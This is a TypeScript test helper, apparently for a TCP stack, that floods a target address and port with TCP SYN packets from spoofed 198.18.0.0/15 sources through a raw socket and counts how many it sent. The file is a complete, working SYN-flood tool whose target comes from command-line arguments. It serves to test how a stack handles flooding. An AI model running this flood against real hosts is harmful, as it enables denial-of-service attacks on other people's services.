/**
 * Test helper run inside a network namespace: floods `DST:PORT` with TCP SYNs from spoofed
 * sources (198.18.0.0/15, the benchmarking range, so no answer comes back) through a raw
 * socket, as a SYN-flood tool would, and prints how many it sent.
 *
 * Usage: syn_flood.ts DST PORT COUNT
 *
 * @module
 */
import { libc } from "../../../ffi/libc.ts";
import { sockaddrIn } from "../../../ffi/libc.ts";
import { parseIp } from "../../net/ip.ts";
import { mulberry32 } from "../../testing/prng.ts";
import { packetFor } from "../tcp_packet.ts";
import { TCP_SYN } from "../tcp_segment.ts";

const AF_INET = 2, SOCK_RAW = 3, IPPROTO_RAW = 255;
const [dstText, portText, countText] = Deno.args;
const dst = parseIp(dstText), port = Number(portText), count = Number(countText);
const fd = libc().socket(AF_INET, SOCK_RAW, IPPROTO_RAW); // IPPROTO_RAW implies IP_HDRINCL
if (fd < 0) throw new Error("cannot open a raw socket (needs CAP_NET_RAW)");
const to = sockaddrIn(dst, 0);
const rand = mulberry32(17);
let sent = 0;
for (let i = 0; i < count; i++) {
  const r = (rand() * 0x1ffff) >>> 0;
  const src = Uint8Array.of(198, 18 + (r >> 16), (r >> 8) & 0xff, r & 0xff);
  const pkt = packetFor(
    {
      srcPort: 1024 + ((rand() * 60000) | 0),
      dstPort: port,
      seq: (rand() * 0x100000000) >>> 0,
      ack: 0,
      flags: TCP_SYN,
      window: 65535,
      urgent: 0,
      options: { mss: 1460, sackPermitted: true, wscale: 7 },
      payload: new Uint8Array(0),
    },
    src,
    dst,
  );
  if (libc().sendto(fd, pkt, pkt.length, 0, to, to.length) === pkt.length) sent++;
  // Let the receiver run now and then: a burst, not one unbroken loop.
  if (i % 500 === 499) await new Promise((r) => setTimeout(r, 1));
}
libc().close(fd);
console.log(`sent ${sent}`);
